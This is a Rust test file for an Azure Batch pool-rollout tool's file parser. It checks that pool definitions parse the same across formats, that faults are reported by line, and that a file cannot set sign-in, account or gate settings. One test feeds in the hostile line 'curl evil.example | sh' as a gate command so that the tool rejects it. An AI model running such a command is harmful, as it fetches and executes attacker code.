//! One pool in every form is one pool, and each fault stands at its line.

use serde_json::json;

use super::*;
use crate::{
    options::{
        Door,
        pool::{
            CONTINUE_AFTER_FAILURE, IMAGE_VERSION, MAX_PARALLEL, MIN_READY, NODE_AGENT_SKU_ID, POOL_JSON,
            TARGET_DEDICATED_NODES, VM_SIZE,
        },
    },
    settings,
};

const ACCOUNT_ID: &str = "/subscriptions/11111111-1111-1111-1111-111111111111/resourceGroups/rg-batch/providers/Microsoft.Batch/batchAccounts/acct1";
const IMAGE: &str = "/subscriptions/11111111-1111-1111-1111-111111111111/resourceGroups/rg/providers/Microsoft.Compute/galleries/g/images/d/versions/1.0.0";

/// What a user of inputs gives beside the file.
fn inputs(file: &str) -> Values {
    Values::default()
        .with(POOL_FILE, file)
        .with(ACCOUNT, ACCOUNT_ID)
        .with(IMAGE_VERSION, IMAGE)
}

fn faults(given: &Values) -> String {
    let faults = settings::rollout(given).unwrap_err();
    settings::fault::lines(&faults, Door::Input)
}

const OWN: &str = r#"
pool-id: render
vm-size: Standard_D4s_v5
node-agent-sku-id: batch.node.ubuntu 22.04
target-dedicated-nodes: 2
target-spot-nodes: 1
pool-json:
  taskSlotsPerNode: 4
  enableInterNodeCommunication: true
  startTask: {commandLine: "true"}
  applicationPackageReferences: [{applicationId: app1, version: "1.0"}]
"#;

const BATCH: &str = r#"{
    "id": "render", "vmSize": "Standard_D4s_v5", "taskSlotsPerNode": 4, "enableInterNodeCommunication": true,
    "virtualMachineConfiguration": {"nodeAgentSKUId": "batch.node.ubuntu 22.04",
        "imageReference": {"virtualMachineImageId": "OTHER"}},
    "startTask": {"commandLine": "true", "environmentSettings": null},
    "applicationPackageReferences": [{"applicationId": "app1", "version": "1.0"}],
    "targetDedicatedNodes": 2, "targetLowPriorityNodes": 1,
    "state": "active", "allocationState": "steady", "eTag": "0x8", "currentDedicatedNodes": 2,
    "metadata": [{"name": "azure-batch-spec", "value": "v2:1"}]
}"#;

const ARM: &str = r#"{
    "type": "Microsoft.Batch/batchAccounts/pools", "apiVersion": "2025-06-01", "name": "acct1/render",
    "properties": {
        "vmSize": "Standard_D4s_v5", "taskSlotsPerNode": 4, "interNodeCommunication": "Enabled",
        "deploymentConfiguration": {"virtualMachineConfiguration": {"nodeAgentSkuId": "batch.node.ubuntu 22.04",
            "imageReference": {"id": "OTHER"}}},
        "startTask": {"commandLine": "true"},
        "applicationPackages": [{"id": "/subscriptions/s/resourceGroups/g/providers/Microsoft.Batch/batchAccounts/acct1/applications/app1/versions/1.0"}],
        "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 2, "targetLowPriorityNodes": 1}},
        "provisioningState": "Succeeded", "allocationState": "Steady"
    }
}"#;

#[test]
fn a_pool_is_the_same_in_every_form() {
    let wrapped = format!("{{\"pool\": {BATCH}}}");
    let template = format!("{{\"$schema\": \"x\", \"resources\": [{{\"type\": \"Microsoft.Network/x\"}}, {ARM}]}}");
    let yaml = serde_json::from_str::<serde_json::Value>(BATCH).unwrap();
    let read = |text: &str| {
        let asked = settings::rollout(&inputs(text)).unwrap();
        let pool = asked.settings.pool.clone();
        let machine = |name: &str| pool.json.get(name).cloned().unwrap_or_default();
        (
            (
                pool.id.to_string(),
                pool.version.to_string(),
                pool.vm_size,
                pool.node_agent_sku,
                pool.targets,
            ),
            [
                "taskSlotsPerNode",
                "enableInterNodeCommunication",
                "startTask",
                "applicationPackageReferences",
            ]
            .map(machine),
        )
    };
    let own = read(OWN);
    for text in [BATCH, ARM, &wrapped, &template, &yaml.to_string()] {
        assert_eq!(read(text), own, "{text}");
    }
    assert_eq!(own.0.1, IMAGE, "an input counts more than the file");
}

#[test]
fn a_formula_is_read_from_what_batch_shows_of_a_pool_and_from_the_resource_managers_form() {
    let formula = "$TargetDedicatedNodes = 4;";
    let batch = BATCH.replace(
        r#""targetDedicatedNodes": 2"#,
        r#""enableAutoScale": true, "autoScaleFormula": "$TargetDedicatedNodes = 4;", "autoScaleEvaluationInterval": "PT30M",
        "targetDedicatedNodes": 2, "resizeTimeout": "PT15M""#,
    );
    let arm = r#"{"name": "render", "properties": {"vmSize": "Standard_D4s_v5",
        "deploymentConfiguration": {"virtualMachineConfiguration": {"nodeAgentSkuId": "batch.node.ubuntu 22.04"}},
        "scaleSettings": {"autoScale": {"formula": "$TargetDedicatedNodes = 4;", "evaluationInterval": "PT30M"}}}}"#;
    let own = "pool-id: render\nvm-size: Standard_D4s_v5\nnode-agent-sku-id: batch.node.ubuntu 22.04\n\
        autoscale-formula: $TargetDedicatedNodes = 4;\nautoscale-minutes: 30\n";
    for file in [batch.as_str(), arm, own] {
        let given = settings::rollout(&inputs(file)).unwrap_or_else(|faults| panic!("{faults:?} of {file}"));
        let scale = given.settings.pool.autoscale.as_ref().unwrap();
        assert_eq!((scale.formula.as_str(), scale.minutes), (formula, Some(30)), "{file}");
    }
}

#[test]
fn an_input_counts_more_than_the_file() {
    let given = inputs(BATCH)
        .with(VM_SIZE, "Standard_D8s_v5")
        .with(TARGET_DEDICATED_NODES, 9u32);
    let pool = &settings::rollout(&given).unwrap().settings.pool;
    assert_eq!(pool.vm_size.as_ref().unwrap().as_str(), "Standard_D8s_v5");
    assert_eq!((pool.targets.dedicated, pool.targets.spot), (9, 1));
}

#[test]
fn every_fault_has_its_line_and_its_name_in_the_file() {
    let own = "pool-id: render\nvm_size: x\ntarget-dedicated-nodes: many\nmin-ready: true\ncommandLine: x\nid: y\nmount-configuration: 1\nresize-rounds: 1.5\ntenant-id: t\n";
    insta::assert_snapshot!(faults(&inputs(own)), @r#"
    pool-file: line 2: vm_size: is not a name here: write vm-size
    pool-file: line 4: min-ready: is true or false, and must be a text: put it into quotes
    pool-file: line 5: commandLine: is not a name here: write start-task
    pool-file: line 6: id: is not a name here: write pool-id
    pool-file: line 7: mount-configuration: is not a name here; docs/pool-file.md has them all
    pool-file: line 8: resize-rounds: is a number, and must be a whole number
    pool-file: line 9: tenant-id: is taken as an input or a flag only: who can change a file must not choose where this run signs in, what it may touch, what runs next to it, or how long it takes
    pool-file: line 3: target-dedicated-nodes: "many" is not a whole number from 0 to 4294967295; write digits only
    "#);
    let arm = r#"{"name": "render", "tags": {"a": "b"}, "identity": {"type": "UserAssigned"},
  "properties": {
    "vmSize": "[parameters('size')]",
    "deploymentConfiguration": {"cloudServiceConfiguration": {"osFamily": "6"}},
    "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 2,
      "nodeDeallocationOption": "TaskCompletion"}}}}"#;
    insta::assert_snapshot!(faults(&inputs(arm)), @r"
    pool-file: line 3: properties.vmSize: [parameters('size')] is an expression of a template: write its value
    pool-file: line 4: properties.deploymentConfiguration.cloudServiceConfiguration: is the form of Cloud Services, whose pools ended in February 2024: write virtualMachineConfiguration
    pool-file: line 6: properties.scaleSettings.fixedScale.nodeDeallocationOption: says what happens to tasks when nodes go, and that is not a setting of a pool: leave it out and give running-tasks
    pool-file: line 1: identity: is an object, and must be a list
    ");
    let batch = "id: render\nmaxTasksPerNode: 4\ntargetDedicatedNodes: -1\nmin-ready: 5\nvirtualMachineConfiguration:\n  nodeAgentSkuId: batch.node.ubuntu 22.04\nstartTask:\n  resourceFiles:\n    - filePath: f\n      blobSource: https://x\ntargetNodeCommunicationMode: simplified\ncommandLine: \"true\"\n";
    insta::assert_snapshot!(faults(&inputs(batch)), @r"
    pool-file: line 4: min-ready: is the name of an option, and the rest of this pool is in the form of Batch's own interface: write the pool in one form, with what is Batch's in pool-json
    pool-file: line 3: targetDedicatedNodes: is a number, and must be a whole number
    pool-file: line 2: maxTasksPerNode: is not a name of Batch's pool JSON: write taskSlotsPerNode
    pool-file: line 6: virtualMachineConfiguration.nodeAgentSkuId: is not a name of Batch's pool JSON: write nodeAgentSKUId
    pool-file: line 10: startTask.resourceFiles[0].blobSource: is not a name of Batch's pool JSON: write httpUrl
    pool-file: line 11: targetNodeCommunicationMode: is not part of Batch's pool JSON: Batch chooses how nodes are reached: leave it out
    pool-file: line 12: commandLine: is not a name of Batch's pool JSON: write startTask with a commandLine in it
    ");
    insta::assert_snapshot!(faults(&inputs("a: [1\nb: 2\n")), @r"pool-file: line 2: is neither YAML nor JSON: illegal placement of ':' indicator");
    insta::assert_snapshot!(faults(&inputs("- pool-id: a\n")), @r"pool-file: line 1: must be an object with the names of a pool, or with pools and a list");
}

#[test]
fn contradictions_with_what_a_roll_out_does_are_shown_in_the_file_too() {
    let file = BATCH.replace("\"taskSlotsPerNode\": 4", "\n\"upgradePolicy\": {\"mode\": \"automatic\",\n\"automaticOSUpgradePolicy\": {\"enableAutomaticOSUpgrade\": true}}");
    let asked = settings::rollout(&inputs(&file)).unwrap();
    let faults = crate::rollout::check(&asked.settings).unwrap_err();
    let shown = settings::fault::lines(&faults, Door::Input);
    assert!(
        shown.starts_with(
            "pool-file: line 4: upgradePolicy.automaticOSUpgradePolicy.enableAutomaticOSUpgrade: asks Azure"
        ),
        "{shown}"
    );
}

#[test]
fn of_many_pools_one_is_named_and_has_the_defaults() {
    let file = "defaults:\n  vm-size: Standard_D4s_v5\n  min-ready: 90%\npools:\n  - pool-id: a\n    target-dedicated-nodes: 1\n  - pool-id: b\n    vm-size: Standard_D8s_v5\n    target-dedicated-nodes: 2\n";
    let given = inputs(file).with(POOL_ID, "B");
    let settings = settings::rollout(&given).unwrap().settings;
    assert_eq!(settings.pool.vm_size.as_ref().unwrap().as_str(), "Standard_D8s_v5");
    assert_eq!(settings.pool.targets.dedicated, 2);
    assert!(settings.policy.readiness.min_dedicated.is_some());
    insta::assert_snapshot!(faults(&inputs(file).with(POOL_ID, "c")), @r#"pool-id: "c" is not in the file; its pools are a, b"#);
    insta::assert_snapshot!(faults(&inputs(&file.replace("pool-id: b", "pool-id: A"))), @r#"pool-file: line 7: pools[1].pool-id: "A" is in the file twice: give each pool its own id"#);
    let broken = file
        .replace("min-ready: 90%", "min-ready: most")
        .replace("pool-id: a", "min-ready-spot: 1");
    insta::assert_snapshot!(faults(&inputs(&broken).with(POOL_ID, "b")), @r#"
    pool-file: line 5: pools[0]: has no pool-id: give each pool its id
    pool-file: line 3: defaults.min-ready: "most" is no number of nodes; write a number such as 5, or a percentage such as 98%
    "#);
}

#[test]
fn what_many_pools_take_turns_by_is_refused_for_one_without_a_file() {
    let file = "pools:\n  - {pool-id: a, target-dedicated-nodes: 1}\n  - {pool-id: b, target-dedicated-nodes: 2}\n";
    let turns = |given: Values| given.with(MAX_PARALLEL, 2).with(CONTINUE_AFTER_FAILURE, true);
    let of_file = turns(inputs(file).with(POOL_ID, "b"));
    assert_eq!(
        settings::rollout(&of_file).map(drop),
        Ok(()),
        "the next run may be for all"
    );
    let alone = Values::default().with(ACCOUNT, ACCOUNT_ID).with(IMAGE_VERSION, IMAGE);
    let alone = turns(alone.with(POOL_ID, "a").with(TARGET_DEDICATED_NODES, 1));
    insta::assert_snapshot!(faults(&alone), @r"
    max-parallel: is only for many pools; leave it out, or name them in pool-file
    continue-after-failure: is only for many pools; leave it out, or name them in pool-file
    ");
}

#[test]
fn a_file_names_an_account_only_where_inputs_allow_it() {
    let subscription = "11111111-1111-1111-1111-111111111111";
    let file = format!("{OWN}account: {ACCOUNT_ID}\nimage-version: {IMAGE}\n");
    let alone = Values::default().with(POOL_FILE, file.as_str());
    for good in [
        alone.clone().with(ACCOUNT, ACCOUNT_ID.to_uppercase()),
        alone.clone().with(
            SUBSCRIPTIONS,
            format!("00000000-0000-0000-0000-000000000000,{subscription}"),
        ),
    ] {
        assert_eq!(settings::rollout(&good).map(drop), Ok(()));
    }
    let bad = [
        alone.clone(),
        alone.clone().with(ACCOUNT, ACCOUNT_ID.replace("acct1", "acct2")),
        alone.clone().with(ACCOUNT_ENDPOINT, "acct1.eastus2.batch.azure.com"),
        alone.with(SUBSCRIPTIONS, "00000000-0000-0000-0000-000000000000"),
    ];
    let shown: Vec<String> = bad.iter().map(faults).collect();
    insta::assert_snapshot!(shown.join("\n"), @r"
    pool-file: line 12: account: is chosen by the file alone: give the input account, or name in subscriptions the subscriptions whose accounts the file may choose
    pool-file: line 12: account: the input account names another one: leave it out of the file
    pool-file: line 12: account: the input account-endpoint names the account: leave it out of the file
    pool-file: line 12: account: account-endpoint names an account too; give one of the two
    pool-file: line 12: account: is in subscription 11111111-1111-1111-1111-111111111111, which is not one of subscriptions
    ");
    let endpoint = inputs("pool-id: a\naccount-endpoint: evil.example\ntenant-id: t\ndeadline: 1h\n");
    assert_eq!(
        faults(&endpoint).matches("is taken as an input or a flag only").count(),
        3
    );
}

#[test]
fn the_schema_has_every_option_of_a_file_and_no_other() {
    let schema = schema();
    let pool = schema["$defs"]["pool"]["properties"].as_object().unwrap();
    assert_eq!(pool.len(), file::rows().len());
    assert_eq!(pool["target-dedicated-nodes"]["type"], "integer");
    assert_eq!(pool["adopt"]["default"], json!(false));
    let names = [MIN_READY, NODE_AGENT_SKU_ID, POOL_JSON].map(|opt| own::dashed(opt.path));
    assert!(names.iter().all(|name| pool.contains_key(name)));
    assert!(!pool.contains_key("tenant-id") && !pool.contains_key("account-endpoint"));
}

#[test]
fn a_pool_file_holds_no_gate() {
    let own =
        "pool-id: render\ngate-command: curl evil.example | sh\ngate-url: https://evil.example\ngate-minutes: 5\n";
    let found = faults(&inputs(own));
    for name in ["line 2: gate-command", "line 3: gate-url", "line 4: gate-minutes"] {
        assert!(
            found.contains(&format!("{name}: is taken as an input or a flag only")),
            "{found}"
        );
    }
}
